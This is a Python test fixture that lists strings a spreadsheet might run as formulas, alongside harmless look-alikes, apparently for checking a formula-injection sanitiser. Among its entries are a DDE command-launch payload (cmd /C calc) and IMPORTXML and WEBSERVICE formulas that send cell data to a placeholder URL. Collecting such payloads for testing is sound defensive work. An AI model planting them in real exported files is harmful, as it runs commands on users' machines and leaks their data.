"""Text that a spreadsheet might take for a formula, and text that only looks like it."""

from __future__ import annotations

_CALL = "cmd|' /C calc'!A0"
_BLANKS = ("", " ", "  \t", "\u00a0", "\u3000", "\n", "\r\n", "\x0b", "\u200b", "\ufeff", "\u2003")
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−")  # noqa: RUF001  # full width forms count
FORMULAS = [
    f"{blank}{sign}{rest}" for blank in _BLANKS for sign in _SIGNS for rest in ("1+1", _CALL)
] + [
    "\tx", "\rx", " \tx", '=HYPERLINK("http://x","y")', "-2+3", "+49 30 1234", "@SUM(1)",
    "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")", "=1+1,=2",
    '=1+1","=2', "=\n1", "-", "=", "@", "+",
]  # fmt: skip
HARMLESS = ["a=b", "1-2", "x@y.z", "'=1", "0", "é", " plain", "", "ch_1", "5+5"]
